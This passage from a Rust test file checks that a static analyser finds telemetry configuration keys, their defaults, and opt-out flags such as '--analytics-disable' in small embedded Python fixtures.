    // A configuration key with its default, and a switch no condition reads: sources only.
    let f = facts(
        r#"class Settings:
    def __init__(self, config):
        self.telemetry_enabled = config.get("telemetry", True)
"#,
    );
    assert!(f.opt_outs.is_empty(), "{:#?}", f.opt_outs);
    assert_eq!(f.setting_sources.len(), 1, "{:#?}", f.setting_sources);
    assert_eq!(f.setting_sources[0].settings, ["telemetry"]);
    assert_eq!(f.setting_sources[0].default, Some(true));
    // A property that computes something else is no switch.
    let f = facts(
        r#"import requests
class C:
    @property
    def ready(self):
        return self.connected
    def run(self):
        if self.ready:
            requests.post("https://t.x.top/e", json={"x": 1})
"#,
    );
    assert!(f.opt_outs.is_empty(), "{:#?}", f.opt_outs);
}

/// aider's shape: a flag declared on the parser and its parsed value checked by name — the
/// check is the flag's, so the label can name it by the flag and its variable.
#[test]
fn a_parsed_flag_checked_by_its_attribute_is_that_flag() {
    let f = facts(
        r#"import configargparse
parser = configargparse.ArgumentParser(auto_env_var_prefix="TOOL_")
parser.add_argument("--analytics-disable", action="store_true")
args = parser.parse_args()
if args.analytics_disable:
    print("analytics off")
"#,
    );
    let s = f
        .setting_sources
        .iter()
        .find(|s| s.property == "analytics_disable")
        .unwrap_or_else(|| panic!("{:#?}", f.setting_sources));
    assert_eq!(
        s.settings,
        ["--analytics-disable", "TOOL_ANALYTICS_DISABLE"]
    );
    assert!(f.opt_outs.iter().any(|o| o.setting == "analytics_disable"));
}
